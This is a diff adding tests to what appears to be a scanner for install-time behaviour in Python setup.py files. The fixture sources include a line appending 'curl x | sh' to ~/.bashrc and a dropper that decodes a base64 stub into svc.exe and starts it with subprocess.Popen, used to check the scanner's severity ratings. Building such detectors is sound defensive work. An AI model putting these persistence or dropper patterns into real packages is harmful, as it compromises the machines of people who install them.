@@ -209,3 +209,38 @@ def test_branches_pip_can_reach_still_count() -> None:
 def test_from_sys_import_argv_gets_no_exemption() -> None:
     source = PUBLISH.format(bind="from sys import argv\n", test="'publish' in sys.argv")
     assert "PV-INS-001" in ids(_setup(source))
+
+
+def test_writes_into_the_profile_are_high_and_into_the_temp_folder_low() -> None:
+    profile = _setup(
+        "import os\nfrom setuptools import setup\n"
+        "with open(os.path.expanduser('~/.bashrc'), 'a') as fh:\n    fh.write('curl x | sh')\n"
+        "setup(name='demo')\n"
+    )
+    assert [f.severity for f in profile if f.rule == "PV-INS-001"] == [Severity.HIGH]
+    assert "user's own folders" in profile[0].message
+    staged = _setup(
+        "import os, tempfile\nfrom setuptools import setup\n"
+        "def manifest():\n"
+        "    path = os.path.join(tempfile.gettempdir(), os.urandom(8).hex())\n"
+        "    with open(path, 'w') as fh:\n        fh.write('include *.txt')\n"
+        "    return path\n"
+        "setup(name='demo', options={'egg_info': {'template': manifest()}})\n"
+    )
+    assert [f.severity for f in staged if f.rule == "PV-INS-001"] == [Severity.LOW]
+    assert "temporary folder" in staged[0].message
+
+
+def test_a_temp_file_written_and_started_is_a_dropper() -> None:
+    findings = _setup(
+        "import os, tempfile, subprocess, base64\nfrom setuptools import setup\n"
+        "BLOB = 'TVqQ'\n"
+        "def drop():\n"
+        "    path = os.path.join(tempfile.gettempdir(), 'svc.exe')\n"
+        "    with open(path, 'wb') as out:\n        out.write(base64.b64decode(BLOB))\n"
+        "    subprocess.Popen(path, shell=True)\n"
+        "drop()\nsetup(name='demo')\n"
+    )
+    writes = [f for f in findings if f.rule == "PV-INS-001" and "temporary folder" in f.message]
+    assert [f.severity for f in writes] == [Severity.HIGH]
+    assert "starts it (subprocess.Popen(), line 8)" in writes[0].message
